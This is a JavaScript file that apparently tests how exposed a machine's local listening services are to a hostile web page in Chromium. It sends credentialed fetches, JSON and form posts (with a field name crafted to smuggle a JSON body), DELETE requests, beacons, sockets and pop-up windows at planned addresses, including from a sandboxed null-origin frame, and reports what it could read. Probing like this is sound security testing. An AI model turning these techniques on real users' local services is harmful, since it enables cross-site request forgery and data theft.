// What a hostile page can do to a listener of this machine. It runs in Chromium: in a page, and in a sandboxed frame.
'use strict';
const PATIENCE = 20000;
// A page that was opened from a file has no address of its own to report to.
const SELF = document.currentScript.src;
const reads = [];
const tried = [];
const bounded = promise => Promise.race([promise, new Promise(done => setTimeout(done, PATIENCE))]);
const element = (tag, set) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => done([made, 'load']);
  made.onerror = () => done([made, 'error']);
  Object.assign(made, set);
  document.body.append(made);
});
const inside = frame => {
  try { return frame.document.body.innerText; } catch { return undefined; }
};
let names = 0;
const form = (url, enctype, target) => {
  const made = document.createElement('form');
  Object.assign(made, {method: 'POST', action: url, enctype, target});
  const field = document.createElement('input');
  Object.assign(field, {name: '{"a":"', value: '"}'});
  made.append(field);
  document.body.append(made);
  made.submit();
};
const formInFrame = enctype => async url => {
  const name = 'frame' + names++;
  const loaded = element('iframe', {name});
  await loaded;
  const frame = document.getElementsByName(name)[0];
  const answered = new Promise(done => { frame.onload = done; });
  form(url, enctype, name);
  await answered;
  return inside(frame.contentWindow);
};
const read = async (url, options) => {
  const answer = await fetch(url, options);
  if (answer.type === 'opaque') return undefined;
  return `${answer.status} ${await answer.text()}`;
};
const text = {'content-type': 'text/plain'};
const json = {'content-type': 'application/json'};
const gets = {
  'fetch': url => read(url),
  'fetch-credentials': url => read(url, {credentials: 'include'}),
  'fetch-no-cors': url => read(url, {mode: 'no-cors', credentials: 'include'}),
  'fetch-header': url => read(url, {headers: {'pleo-proxy-account': 'default'}}),
  'image': async url => {
    const [image, outcome] = await element('img', {src: url});
    return outcome === 'load' ? `${image.width} wide` : undefined;
  },
  'script': async url => (await element('script', {src: url}))[1] === 'load' ? 'a script ran' : undefined,
  'style': async url => {
    const [style, outcome] = await element('link', {rel: 'stylesheet', href: url});
    return outcome === 'load' ? `a style of ${style.href}` : undefined;
  },
  'iframe': async url => inside((await element('iframe', {src: url}))[0].contentWindow),
  'object': async url => (await element('object', {data: url}))[0].contentDocument?.body.innerText,
  'event-source': url => new Promise(done => {
    const source = new EventSource(url, {withCredentials: true});
    const end = said => { source.close(); done(said); };
    source.onopen = () => end('open');
    source.onmessage = event => end(event.data);
    source.onerror = () => end(undefined);
  }),
  'web-socket': url => new Promise(done => {
    const socket = new WebSocket(url.replace('http:', 'ws:'));
    socket.onopen = () => done('open');
    socket.onclose = () => done(undefined);
  }),
};
const posts = {
  'post-text': url => read(url, {method: 'POST', headers: text, body: '{}', credentials: 'include'}),
  'post-no-cors': url => read(url, {method: 'POST', mode: 'no-cors', headers: text, body: '{}', credentials: 'include'}),
  'post-json': url => read(url, {method: 'POST', headers: json, body: '{}'}),
  'delete': url => read(url, {method: 'DELETE'}),
  'beacon': async url => { navigator.sendBeacon(url, '{}'); },
  'ping': async url => {
    const link = Object.assign(document.createElement('a'), {href: '#pinged', ping: url});
    document.body.append(link);
    link.click();
  },
  'form': formInFrame('application/x-www-form-urlencoded'),
  'form-text': formInFrame('text/plain'),
  'form-multipart': formInFrame('multipart/form-data'),
};
// A window is somewhere else once this page may not look at it any more.
const elsewhere = opened => new Promise(done => {
  const look = setInterval(() => {
    try { void opened.location.href; } catch { clearInterval(look); done(); }
  }, 20);
});
const tops = {
  'top-get': async url => {
    const opened = window.open(url);
    await bounded(elsewhere(opened));
    const said = inside(opened);
    opened.close();
    return said;
  },
  'top-form': async url => {
    const name = 'window' + names++;
    const opened = window.open('', name);
    form(url, 'text/plain', name);
    await bounded(elsewhere(opened));
    const said = inside(opened);
    opened.close();
    return said;
  },
};
const attempt = async (ways, prefix, url) => {
  await Promise.all(Object.entries(ways).map(async ([way, act]) => {
    const marked = `${url}${url.includes('?') ? '&' : '?'}by=${prefix}${way}`;
    const said = await bounded(act(marked).catch(() => undefined));
    tried.push(marked);
    if (said) reads.push(`${marked}: ${said}`.slice(0, 300));
  }));
};
// One address after the other, so that a slow machine keeps up.
const attack = async (plan, prefix) => {
  for (const url of plan.get) await attempt(gets, prefix, url);
  for (const url of plan.post) await attempt(posts, prefix, url);
  if (prefix) return;
  for (const url of plan.topGet) await attempt({'top-get': tops['top-get']}, prefix, url);
  for (const url of plan.topForm) await attempt({'top-form': tops['top-form']}, prefix, url);
};
const run = async () => {
  const inFrame = location.protocol === 'about:';
  await attack(inFrame ? PLAN.framed : PLAN, inFrame ? 'null-' : '');
  if (inFrame) return parent.postMessage({reads, tried}, '*');
  const framed = new Promise(done => { onmessage = event => done(event.data); });
  const source = `<body><script src="${SELF}"></script>`;
  document.body.append(Object.assign(document.createElement('iframe'), {sandbox: 'allow-scripts allow-forms', srcdoc: source}));
  const more = await Promise.race([framed, new Promise(done => setTimeout(() => done({reads: [], tried: []}), 3 * PATIENCE))]);
  const report = {reads: [...reads, ...more.reads], tried: [...tried, ...more.tried]};
  await fetch(new URL('/report', SELF), {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
};
run();
